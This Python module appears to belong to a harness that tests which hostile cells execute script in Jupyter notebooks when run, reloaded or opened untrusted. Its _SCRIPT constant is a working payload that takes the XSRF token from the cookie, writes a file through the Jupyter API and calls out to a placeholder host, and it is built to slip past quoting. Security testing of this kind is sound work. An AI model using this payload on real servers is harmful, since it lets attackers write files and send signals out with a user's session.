"""What a row of the table says."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

__all__ = [
    "ALL",
    "CHARTS",
    "EXECUTED",
    "LIVE",
    "PHASES",
    "QUIET",
    "RELOADED",
    "SAVED",
    "UNTRUSTED",
    "Attack",
    "html",
    "mime",
    "shows",
]

EXECUTED, RELOADED, UNTRUSTED = "executed", "reloaded", "untrusted"
PHASES = (EXECUTED, RELOADED, UNTRUSTED)
"""When it is run, when the saved notebook is opened again, and when a copy is opened that the
server does not trust."""

CHARTS = "charts"
"""The group for which the renderer of charts must have been at work before nothing is concluded."""

QUIET = "quiet"
"""The group of those that change where the page leads, and fail where others do so as well."""

# What a row says: in which of them it succeeds under plain ipykernel.
ALL = frozenset(PHASES)
SAVED = ALL - {UNTRUSTED}
LIVE = frozenset({EXECUTED})

# Writes a file through the Jupyter server's API with the user's cookie, and tells another host.
# Without ', ", <, > and &: it stands in attributes, JSON, Python and script elements alike.
# The first statement says that it ran at all, in a page and in a frame.
_SCRIPT = (
    "(function(){"
    "try{window.pwned_ran=(window.pwned_ran||[]).concat(`@MARK@`)}catch(e){}"
    "var x=``;try{x=/_xsrf=([^;]*)/.exec(document.cookie)[1]}catch(e){}"
    "var h={};h[`Content-Type`]=`application/json`;h[`X-XSRFToken`]=x;"
    "try{fetch(`@LAB@api/contents/@MARK@.txt`,{method:`PUT`,credentials:`include`,headers:h,"
    "body:JSON.stringify({type:`file`,format:`text`,content:`x`})}).catch(function(){})}catch(e){}"
    "try{fetch(`@HOST@/@MARK@/script`).catch(function(){})}catch(e){}"
    "})()"
)


@dataclass(frozen=True, slots=True)
class Attack:
    """One thing that a hostile cell does.

    Attributes:
        name: lower-case letters, digits and hyphens; part of its mark.
        what: what it would do.
        code: the cell. ``@JS@``, ``@MARK@``, ``@LAB@`` and ``@HOST@`` are filled in.
        works: the phases in which it succeeds under plain ipykernel, as measured there.
        then: cells that run after it.
        do: what the user does then, beside clicking on everything: "complete", "inspect",
            "variable".
        group: those of a group share a notebook; one that breaks the page has its own.
    """

    name: str
    what: str
    code: str
    works: frozenset[str] = frozenset()
    then: tuple[str, ...] = ()
    do: str = ""
    group: str = ""

    def cells(self, mark: str, lab: str, host: str) -> list[str]:
        """Return the cells' code.

        Args:
            mark: what every address carries that it tries.
            lab: the Jupyter server's address.
            host: any other host's address.
        """
        found = []
        for code in (self.code, *self.then):
            code = code.replace("@JS@", _SCRIPT)
            found.append(code.replace("@MARK@", mark).replace("@LAB@", lab).replace("@HOST@", host))
        return found


def shows(bundle: Mapping[str, Any], metadata: Mapping[str, Any] | None = None) -> str:
    """Return code that displays a MIME bundle as it is."""
    return (
        "from IPython.display import display\n"
        f"display({dict(bundle)!r}, raw=True, metadata={dict(metadata or {})!r})"
    )


def html(text: str) -> str:
    """Return code that displays HTML."""
    return mime("text/html", text)


def mime(kind: str, content: Any) -> str:
    """Return code that displays one MIME type, with a plain text beside it."""
    return shows({kind: content, "text/plain": "plain text"})
